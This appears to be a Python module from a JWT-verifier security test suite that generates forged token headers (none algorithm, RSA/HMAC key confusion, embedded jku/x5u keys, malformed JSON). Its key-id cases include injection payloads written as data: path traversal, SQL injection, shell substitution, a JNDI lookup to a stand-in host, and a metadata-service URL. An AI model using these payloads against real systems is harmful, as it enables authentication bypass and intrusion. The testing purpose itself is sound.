"""Forgeries of the header: the algorithm, the key, extensions, types, and JSON that two readers read differently."""

import itertools
import json
import zlib

from . import forge, tokens
from .forgery import ABSENT, ACCEPTED, INVALID, Case, text_of, with_member

HMACS = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}


def cases(target):
    yield from unsecured(target)
    yield from other_algorithms(target)
    yield from secrets(target)
    yield from extensions(target)
    yield from embedded_keys(target)
    yield from types(target)
    yield from key_ids(target)
    yield from contents(target)
    yield from texts(target)


def unsecured(target):
    """RFC 7515 appendix A.5: a token whose algorithm is none has no signature."""
    for letters in itertools.product(*({letter, letter.upper()} for letter in "none")):
        name = "".join(letters)
        header = target.header(alg=name)
        text = tokens.signing_input(header, target.claims())
        yield Case(f"alg {name}, no signature", f"{text}.", INVALID, "key_found")
        yield target.case(f"alg {name}, signed", header, target.claims(), step="key_found")
    for name in ("none ", "none\0", " none", "ｎone", ""):
        text = tokens.signing_input(target.header(alg=name), target.claims())
        yield Case(f"alg {name!a}, no signature", f"{text}.", INVALID, "key_found")


def other_algorithms(target):
    values = {"missing": ABSENT, "a number": 256, "null": None, "true": True, "an object": {"alg": "RS256"}}
    values |= {"an array": [target.key.algorithm], "an array with none": ["none", target.key.algorithm]}
    for name, value in values.items():
        yield target.case(f"alg is {name}", target.header(alg=value), target.claims(), step="token_parsed")
    own = target.key.algorithm
    names = ["RS256", "RS384", "RS512", "ES256", "ES384", "ES512", "PS256", "PS384", "PS512", "EdDSA", "ES256K"]
    names += ["RSA-OAEP", "dir", "RS1", "MD5", own.lower(), own + " ", own + "\0", own + ".", "SHA256withRSA"]
    names.remove(own)
    for name in names:
        yield target.case(f"alg {name!a} over an {own} signature", target.header(alg=name), target.claims())
    if isinstance(target.key, forge.RsaKey):
        for bits in (256, 384, 512):
            text = tokens.signing_input(target.header(alg=f"PS{bits}"), target.claims())
            signature = target.key.sign_pss(text.encode(), target.rng, f"sha{bits}")
            yield Case(f"a good PS{bits} signature", f"{text}.{tokens.encode(signature)}", INVALID, "key_found")
        for bits in (384, 512):
            # RFC 8725 §3.1: the key is published for RS256 alone.
            text = tokens.signing_input(target.header(alg=f"RS{bits}"), target.claims())
            signature = target.key.sign(text.encode(), f"sha{bits}")
            yield Case(f"a good RS{bits} signature", f"{text}.{tokens.encode(signature)}", INVALID)
            text = tokens.signing_input(target.header(), target.claims())
            signature = target.key.sign(text.encode(), f"sha{bits}")
            yield Case(f"RS256 that is RS{bits}", f"{text}.{tokens.encode(signature)}", INVALID)


def secrets(target):
    """RFC 8725 §2.1: a public key taken for an HMAC secret."""
    if target.jwk["kty"] != "RSA":
        return
    for algorithm, digest in HMACS.items():
        for form, secret in forge.secret_forms(target.jwk).items():
            token = tokens.sign_hmac(target.header(alg=algorithm), target.claims(), secret, digest)
            yield Case(f"{algorithm} keyed with the public key: {form}", token, INVALID, "key_found")
    for form, secret in forge.secret_forms(target.jwk).items():
        token = tokens.sign_hmac(target.header(), target.claims(), secret)
        yield Case(f"an HMAC that says {target.key.algorithm}: {form}", token, INVALID)


def extensions(target):
    """RFC 7515 §4.1.11 and RFC 7797."""
    lists = [["exp"], ["b64"], [], None, "b64", ["unknown"], ["alg"], [1], [["exp"]], {}, ["kid", "kid"], False]
    for value in lists:
        header = target.header(crit=value, exp=1, unknown=True)
        yield target.case(f"crit {text_of(value)}", header, target.claims(), step="token_parsed")
    yield target.case(
        "crit of b64, which is true", target.header(crit=["b64"], b64=True), target.claims(), step="token_parsed"
    )
    for value in (False, None, "true", "false", 1, 0, []):
        header = target.header(b64=value)
        yield target.case(f"b64 {text_of(value)}", header, target.claims(), step="token_parsed")
    header = tokens.encode(text_of(target.header(b64=False, crit=["b64"])).encode())
    text = f"{header}.{text_of(target.claims())}"
    yield Case("a payload that is not encoded", f"{text}.{tokens.encode(target.key.sign(text.encode()))}", INVALID)
    yield target.case("b64 true", target.header(b64=True), target.claims(), ACCEPTED)
    yield target.case("an unknown member", target.header(unknown=["a", 1]), target.claims(), ACCEPTED)


def embedded_keys(target):
    """RFC 8725 §3.10: keys and addresses that the token itself brings."""
    stranger = target.stranger
    certificate = tokens.public_key_pem(stranger.jwk()).splitlines()[1:-1]
    members = {
        "jwk": stranger.jwk(),
        "jwk of a set": {"keys": [stranger.jwk()]},
        "jku": "https://stranger.example/keys",
        "jku at a private address": "https://127.0.0.1/keys",
        "jku of the metadata service": "http://169.254.169.254/latest/meta-data/",
        "jku with the issuer as user": target.issuer.replace("https://", "https://stranger.example/?") + "/keys",
        "x5u": "https://stranger.example/certificate",
        "x5u of a file": "file:///etc/passwd",
        "x5c": ["".join(certificate)],
        "x5t": tokens.encode(target.rng.randbytes(20)),
        "x5t#S256": tokens.encode(target.rng.randbytes(32)),
    }
    for name, value in members.items():
        member = name.split(" ")[0]
        for kid in (target.kid, stranger.kid, ABSENT):
            header = target.header(alg="RS256", kid=kid, **{member: value})
            token = forge.signed(stranger, header, target.claims())
            shown = "no kid" if kid is ABSENT else "the right kid" if kid == target.kid else "its own kid"
            yield Case(f"a stranger's {name}, {shown}", token, INVALID)
        yield target.case(f"{name} beside the right key", target.header(**{member: value}), target.claims(), ACCEPTED)


def types(target):
    """RFC 8725 §3.11: no other kind of token may pass for an identity token."""
    wrong = ["at+jwt", "AT+JWT", "application/at+jwt", "JOSE", "JOSE+JSON", "logout+jwt", "secevent+jwt", "dpop+jwt"]
    wrong += ["kb+jwt", "", "JWT ", " JWT", "JWT\0", "application/", "text/jwt", ["JWT"], 1, None, True, {"typ": "JWT"}]
    for value in wrong:
        yield target.case(f"typ {text_of(value)}", target.header(typ=value), target.claims(), step="token_parsed")
    for value in (ABSENT, "JWT", "jwt", "Jwt", "application/jwt", "application/JWT"):
        name = "missing" if value is ABSENT else value
        yield target.case(f"typ {name}", target.header(typ=value), target.claims(), ACCEPTED)


def key_ids(target):
    wrong = [
        "../../../../../../etc/passwd",
        "/dev/null",
        "file:///dev/null",
        "https://stranger.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "'; DROP TABLE keys; --",
        "$(id)",
        "| id",
        "${jndi:ldap://stranger.example/a}",
        "%00",
        "*",
        "%s%s%n",
        "",
        "\0",
        "\n",
        "none",
        "null",
        "0",
        "k" * 10000,
        target.kid + "\0",
        target.kid + "\0.pem",
        target.kid + " ",
        " " + target.kid,
        target.kid + "\n",
        target.kid[:-1],
        target.kid + target.kid,
        target.kid.swapcase(),
        target.kid + "\u200b",
        target.kid.encode().hex(),
    ]
    for value in wrong:
        shown = ascii(value) if len(value) < 100 else f"of {len(value)} characters"
        yield target.case(f"kid {shown}", target.header(kid=value), target.claims(), step="key_found")
    yield target.case("kid of another issuer", target.header(kid=target.other_kid), target.claims(), step="key_found")
    for kid in target.siblings:
        yield target.case(f"kid {kid} of the same issuer", target.header(kid=kid), target.claims())
    # With a single key there is no doubt which one is meant.
    outcome, step = (INVALID, "key_found") if target.siblings else (ACCEPTED, None)
    yield target.case("no kid", target.header(kid=ABSENT), target.claims(), outcome, step)
    for value in (1, 0, None, True, [target.kid], {"kid": target.kid}):
        header = target.header(kid=value)
        yield target.case(f"kid {text_of(value)}", header, target.claims(), step="token_parsed")


def contents(target):
    """Compression (RFC 7516 §4.1.3) and nesting (RFC 7519 §5.2), which a signed identity token has not."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    for name, claims in {"": target.claims(), " of 8 MiB": {**target.claims(), "pad": "a" * (8 << 20)}}.items():
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(text_of(claims).encode()) + packer.flush()
        yield target.case(f"compressed claims{name}", target.header(zip="DEF"), packed, step="token_parsed")
    inner = target.sign(target.header(), target.claims())
    yield target.case("a token in a token", target.header(cty="JWT"), inner, step="token_parsed")
    yield target.case("a token as a JSON string", target.header(cty="JWT"), json.dumps(inner), step="token_parsed")
    yield target.case(
        "claims beside enc", target.header(enc="A128GCM"), target.claims(), step="token_parsed"
    )
    yield target.case("claims that say zip", target.header(zip="DEF"), target.claims(), ACCEPTED)
    yield target.case("claims that say cty", target.header(cty="JWT"), target.claims(), ACCEPTED)


def texts(target):
    """Headers that one reader takes and another takes otherwise."""
    right = text_of(target.header())
    alg, kid = (f'"{name}":"{target.header()[name]}"' for name in ("alg", "kid"))
    broken = {
        "alg twice, none first": with_member(target.header(), '"alg":"none"'),
        "alg twice, none last": right[:-1] + ',"alg":"none"}',
        "alg twice, the same": with_member(target.header(), alg),
        "alg twice, once escaped": with_member(target.header(), '"\\u0061lg":"none"'),
        "alg twice, once escaped, last": right[:-1] + ',"\\u0061\\u006c\\u0067":"none"}',
        "kid twice": with_member(target.header(), '"kid":"other"'),
        "kid twice, the same": with_member(target.header(), kid),
        "typ twice": with_member(target.header(), '"typ":"at+jwt"'),
        "an unknown member twice": with_member(target.header(), '"a":1,"a":1'),
        "a nested member twice": with_member(target.header(), '"a":{"b":1,"b":2}'),
        "a byte-order mark": "\ufeff" + right,
        "UTF-16": right.encode("utf-16"),
        "bytes after it": right + "x",
        "another object after it": right + right,
        "a NUL after it": right + "\0",
        "a comment": right[:-1] + "/* */}",
        "a comma too many": right[:-1] + ",}",
        "single quotes": right.replace('"', "'"),
        "no end": right[:-1],
        "an array": f"[{right}]",
        "a string": json.dumps(right),
        "nothing": "",
        "null": "null",
        "a number": "1",
        "invalid UTF-8": right.encode()[:-1] + b',"a":"\xff\xfe"}',
        "UTF-8 that is too long": right.encode().replace(b"alg", b"\xc1\xa1lg"),
        "a surrogate in UTF-8": right.encode()[:-1] + b',"a":"\xed\xa0\x80"}',
        "half a surrogate pair": with_member(target.header(), '"a":"\\ud800"'),
        "a control character": with_member(target.header(), '"a":"\n"'),
        "deep nesting": with_member(target.header(), '"a":' + "[" * 3000 + "]" * 3000),
        "deep nesting without an end": "[" * 7000,
        "deep objects": '{"a":' * 1500 + "1" + "}" * 1500,
    }
    for name, header in broken.items():
        yield target.case(f"header: {name}", header, target.claims(), step="token_parsed")
    spaced = json.dumps(target.header(), indent=1)
    yield target.case("header: white space", f" \t\r\n{spaced} ", target.claims(), ACCEPTED)
    escaped = right.replace('"alg"', '"\\u0061lg"').replace('"kid"', '"\\u006bid"')
    yield target.case("header: escaped names", escaped, target.claims(), ACCEPTED)
